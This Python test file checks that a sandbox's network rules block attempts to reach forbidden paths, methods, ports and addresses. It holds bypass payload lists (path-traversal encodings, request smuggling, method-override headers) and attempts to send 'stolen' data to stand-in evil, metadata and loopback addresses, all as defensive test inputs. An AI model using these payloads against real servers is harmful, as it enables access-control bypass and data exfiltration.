"""Attacks on rules about methods, paths and ports: whatever is sent, the far end sees nothing that no rule opened."""
import json

import pytest

from helpers import requirement
from helpers.internet import SITE4

pytestmark = [requirement("R02", "R13", "R14"), pytest.mark.root]


@pytest.fixture
def narrow(online, project):
    """Code inside, on a network in which api.example.org:80 opens GET /v1/** without /v1/secret, and nothing else."""
    online.net.names["api.example.org"] = [("A", SITE4)]
    path = project / "rules.json"
    path.write_text(json.dumps({"network": {
        "allow": [{"host": "api.example.org", "port": 80, "methods": ["GET"], "path": "/v1/**"}, "ok.example.org"],
        "deny": [{"host": "**.example.org", "path": "/v1/secret/**"}]}}), encoding="utf-8")

    def run(code):
        return online.python(code, allow=(), flags=["--settings", path])
    return run


# What some server takes for /v1/secret or for something outside of /v1.
PATHS = ["/v1/secret", "/v1/secret/", "/v1/secret?x", "/v1/secret/a/b", "/v1//secret", "//v1/secret", "/v1/./secret",
         "/v1/x/../secret", "/v1/../admin", "/v1/..", "/v1/%2e%2e/admin", "/v1/%2E%2E/admin", "/v1/.%2e/admin",
         "/v1/%2e/secret", "/v1/%73ecret", "/v1/secre%74", "/v1/secret;x=1", "/v1/x/..;/secret", "/v1/secret%3bx",
         "/v1/secret%2fa", "/v1%2fsecret", "/v1/secret%5ca", "/v1\\secret", "/v1/..\\admin", "/v1/secret%00",
         "/v1/secret%0a", "/v1/secret%20", "/v1/secret%23", "/v1/secret#x", "/v1/%2573ecret", "/v1/%252e%252e/admin",
         "/v1/%c0%ae%c0%ae/", "/v1/%u002e%u002e/admin", "/v1/secret%", "/v1/secret%g0", "/v1/\xc3\xa4/../secret",
         "/v1/ secret", "/v1/\tsecret", "v1/secret", "", "*", "?/v1/x", "/admin", "/V1/secret", "/v1secret"]
HARMLESS = {"/v1/%c0%ae%c0%ae/"}        # overlong UTF-8: allowed as the bytes it is, and not what a rule closes

ATTACK = """
import threading
addresses = {'api': socket.gethostbyname('api.example.org')}
def send(where, data, seconds=20):
    try: return talk(where, data, seconds)[:60]
    except OSError as e: return repr(e).encode()
def at_once(f, cases):
    threads = [threading.Thread(target=f, args=(c,)) for c in cases]
    for t in threads: t.start()
    for t in threads: t.join()
"""


def seen(online):
    return {r["path"] for r in online.net.requests} - HARMLESS


@pytest.mark.parametrize("form", ["transparent", "absolute", "tunnel"])
def test_paths_that_are_closed_by_any_spelling(online, narrow, form):
    code = ATTACK + f"""
for path in {PATHS!r}:
    raw = path.encode('latin-1')
    line = b'GET %s HTTP/1.1\\r\\nHost: api.example.org\\r\\nConnection: close\\r\\n\\r\\n'
    if {form!r} == 'transparent': answer = send((addresses['api'], 80), line % raw)
    elif {form!r} == 'absolute': answer = send(P, line % (b'http://api.example.org' + raw))
    else:
        s, head = connect('api.example.org:80')
        try: s.sendall(line % raw); answer = head + drain(s)
        except OSError as e: answer = repr(e).encode()
    print(path, answer)
print(send((addresses['api'], 80), line % b'/v1/done'))
"""
    result = narrow(code)
    assert "200 OK" in result.out.splitlines()[-1], result
    assert seen(online) == {"/v1/done"}, result


def test_methods_that_are_closed(online, narrow):
    code = ATTACK + """
for method in ('POST', 'get', 'Get', 'GETT', 'PUT', 'OPTIONS', 'TRACE', 'DELETE', 'CONNECT', 'GET\\t', 'G\\x00ET', ''):
    rest = f'HTTP/1.1\\r\\nHost: api.example.org\\r\\n{CLOSE}\\r\\n'
    send((addresses['api'], 80), f'{method} /v1/x {rest}'.encode())
    send(P, f'{method} http://api.example.org/v1/x {rest}'.encode())
print('done')
"""
    result = narrow(code)
    assert result.out == "done\n" and not online.net.requests, result


def test_a_second_request_behind_an_allowed_one(online, narrow):
    """Pipelined, smuggled in a body, and under another host's name: only what is allowed arrives."""
    code = ATTACK + """
good = b'GET /v1/a HTTP/1.1\\r\\nHost: api.example.org\\r\\n'
bad = b'GET /v1/secret HTTP/1.1\\r\\nHost: api.example.org\\r\\n\\r\\n'
where = (addresses['api'], 80)
at_once(lambda said: send(*said, 1), [
    (where, good + b'\\r\\n' + bad),
    (where, good + b'Content-Length: %d\\r\\n\\r\\n' % len(bad) + bad + bad),
    (where, good + b'Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + bad),
    (where, good + b'Content-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + bad),
    (where, b'GET /v1/secret HTTP/1.1\\r\\nHost: ok.example.org\\r\\n\\r\\n'),
    ((socket.gethostbyname('ok.example.org'), 80), bad),
    (P, b'GET http://ok.example.org/x HTTP/1.1\\r\\nHost: api.example.org\\r\\n\\r\\n' + bad),
    (P, b'GET http://api.example.org/v1/b HTTP/1.1\\r\\nHost: api.example.org\\r\\n\\r\\n' + bad),
])
print('done')
"""
    result = narrow(code)
    assert result.out == "done\n", result
    assert {(r["host"], r["path"]) for r in online.net.requests} <= {
        ("api.example.org", "/v1/a"), ("api.example.org", "/v1/b"), ("ok.example.org", "/x")}, result


def test_tls_does_not_go_around_a_rule_about_paths(online, narrow):
    """Port 443 of the host has no rule; for the other one a rule looks at paths, so that nothing unread passes."""
    code = ATTACK + """
for host in ('api.example.org', 'ok.example.org'):
    for path in ('/v1/secret', '/v1/secret/x', '/v1//secret'):
        try:
            s = tls(dial(socket.gethostbyname(host), 443), host); s.sendall(get(host, path, CLOSE)); drain(s)
        except OSError as e: print(type(e).__name__)
        try:
            s, head = connect(host + ':443'); s = tls(s, host); s.sendall(get(host, path, CLOSE)); drain(s)
        except OSError as e: print(type(e).__name__)
print('done')
"""
    result = narrow(code)
    assert result.out.endswith("done\n") and not online.net.requests, result


# --- ports ------------------------------------------------------------------------------------------------------------

def test_a_port_of_one_name_is_no_way_to_another(online):
    """Through the listener for ok.example.org's ports: another name's address, another name inside, any address."""
    code = """
def send(where, data):
    try: return talk(where, data, 1)[:60]
    except OSError as e: return repr(e).encode()
ok, other, evil = socket.gethostbyname('ok.example.org'), socket.gethostbyname('other.example.org'), '93.184.216.35'
for port in (7777, 22, 8080, 8443):
    for address in (other, evil, '10.0.0.5', '169.254.169.254', '127.0.0.1', '127.0.0.2', '::1', 'fd12::5',
                    '::ffff:10.0.0.5', '64:ff9b::a00:5', '198.18.0.1', '198.18.0.77', '198.19.255.1', '0.0.0.0',
                    '255.255.255.255', '224.0.0.1', '93.184.216.1'):
        for data in (b'stolen', get('ok.example.org'), get('other.example.org:%d' % port)): send((address, port), data)
for port in (8080, 8443, 7777):
    for host in ('other.example.org', f'other.example.org:{port}', 'evil.example.org', '10.0.0.5', 'ok.example.org.x'):
        send((ok, port), get(host, '/stolen'))
        send((ok, port), get('ok.example.org', f'http://{host}/stolen'))
        send((ok, port), b'\\r\\n' + get(host, '/stolen'))
        send((ok, port), f'CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'.encode() + get(host, '/stolen'))
    for host in ('other.example.org', 'evil.example.org', 'deep.a.example.org', None):
        try: s = tls(dial(ok, port), host); s.sendall(get('x', '/stolen')); drain(s)
        except (OSError, ValueError): pass
print('done')
"""
    rules = ["ok.example.org:7777", "ok.example.org:8080", "ok.example.org:8443", "other.example.org:22"]
    result = online.python(code, allow=rules)
    assert result.out == "done\n", result
    ports = {7777, 8080, 8443}
    assert {p for p in online.net.reached() if p != (6, "93.184.216.35", 22)} <= {(6, SITE4, p) for p in ports}
    assert not online.net.requests and not online.net.host_hits, online.net.requests
    assert not any(b"stolen" in kept for kept in online.net.echoed), "nothing of another name passed"
    assert not any(b"other.example.org" in hello for hello in online.net.hellos)


def test_a_port_rule_does_not_open_an_address_of_the_host_or_of_nobody(online):
    """Names that lead to forbidden addresses, at a port that a rule names."""
    places = {"own": "93.184.216.1", "meta": "169.254.169.254", "lan": "10.0.0.5", "lo": "127.0.0.1"}
    online.net.names.update({f"{name}.example.org": [("A", address)] for name, address in places.items()})
    code = """
for name in ('own', 'meta', 'lan', 'lo'):
    for port in (8123, 7777):
        try: print(talk((socket.gethostbyname(name + '.example.org'), port), b'stolen', 2))
        except OSError as e: print(repr(e))
"""
    result = online.python(code, allow=["*.example.org:8123", "*.example.org:7777"])
    assert len(result.out.splitlines()) == 8 and "host service" not in result.out, result
    assert not online.net.reached() and not online.net.host_hits and not online.net.echoed


# Fields by which many a server takes another method or path than the request's line has.
MEANT = ["X-HTTP-Method-Override: DELETE", "x-http-method-override: delete", "X-HTTP-Method: DELETE", "X-Method-Override: DELETE",
         "X_HTTP_Method_Override: DELETE", "X.HTTP-Method.Override: DELETE",
         "X-HTTP-Method-Override: GET\r\nX-HTTP-Method-Override: DELETE", "X-HTTP-Method-Override: GET, DELETE",
         "X-HTTP-Method: GET\r\nX-Method-Override: DELETE", "X-HTTP-Method-Override: ", "X-Original-URL: /v1/secret",
         "X-Rewrite-URL: /v1/secret", "X_Original_URL: /v1/x", "X-Override-URL: /v1/secret"]


@pytest.mark.parametrize("secure", [False, True], ids=["plain", "opened"])
def test_another_method_or_path_in_a_field(online, project, secure):
    online.net.names["api.example.org"] = [("A", SITE4)]
    path = project / "rules.json"
    path.write_text(json.dumps({"network": {"allow": [
        {"host": "api.example.org", "methods": ["GET", "POST"], "path": "/v1/**"}, {"host": "free.example.org", "port": 80}], "deny": [
        {"host": "ok.example.org", "methods": ["DELETE"]}, {"host": "ok.example.org", "path": "/v1/secret"}], "extra-ca": [str(online.net.ca)]}}),
        encoding="utf-8")
    code = ATTACK + f"""
def say(host, line, field):
    s = dial(socket.gethostbyname(host), {443 if secure else 80}, 20)
    if {secure}: s = ssl.create_default_context(cafile='/etc/ssl/certs/ca-certificates.crt').wrap_socket(s, server_hostname=host)
    s.sendall(f'{{line}} HTTP/1.1\\r\\nHost: {{host}}\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n{{field}}\\r\\n\\r\\n'.encode())
    return drain(s)[9:12].decode()
for host in ('api.example.org', 'ok.example.org'):
    for field in {MEANT!r}: print(host, say(host, 'POST /v1/x', field), repr(field))
print(say('api.example.org', 'POST /v1/x', 'X-HTTP-Method-Override: GET'), say('ok.example.org', 'POST /v1/x', 'X-HTTP-Method-Override: PUT'))
"""
    result = online.python(code, allow=["ok.example.org"], flags=["--settings", path])
    lines = result.out.splitlines()
    assert result.ok and lines[-1] == "200 200" and len(lines) == 2 * len(MEANT) + 1, result
    assert all(line.split()[1] == "403" for line in lines[:-1]), result
    assert len(online.net.requests) == 2, online.net.requests
